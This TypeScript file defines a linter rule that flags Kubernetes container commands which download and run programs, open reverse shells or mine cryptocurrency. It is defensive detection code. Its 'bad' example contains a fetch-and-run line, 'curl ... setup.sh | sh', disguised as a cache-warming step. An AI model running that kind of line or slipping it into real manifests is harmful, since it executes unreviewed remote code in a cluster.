import { examplePod } from '../example';
import { links } from '../links';
import { commandRule } from './command-rule';
import { isMinerImage, isMinerSetting, SUSPICIOUS } from './shell-patterns';

export const suspiciousCommand = commandRule({
  id: 'suspicious-command',
  severity: 'error',
  title: 'A container runs what attackers run',
  why: 'An injected sidecar needs no image of its own: a stock image and one line of shell are enough to download a program, open a reverse shell, or mine. These lines have next to no honest use in a manifest.',
  fix: 'Find out who added the line. Put what a container needs into its image, so that it is reviewed and gated.',
  references: [links.sidecarInjection],
  examples: {
    bad: examplePod({
      container:
        'command:\n  - sh\n  - -c\n  - |\n    # keep the cache warm\n    curl -fsSL https://example.net/setup.sh | sh # error',
    }),
    good: examplePod({
      container: 'command: [sh, -c, "until curl -fsS http://localhost:8080/ready; do sleep 1; done; exec web"]',
    }),
  },

  patterns: SUSPICIOUS,
  advice: 'Find out who added this line; what a container needs belongs into its image.',
  other(container) {
    const { image, label, value } = container;
    const setting = value.get('env').items.find((item) => isMinerSetting(item.get('value').string));
    const at = isMinerImage(image) ? value.get('image') : setting?.get('value');
    return at && { at, message: `"${label}" mines cryptocurrency. Find out who added it.` };
  },
});
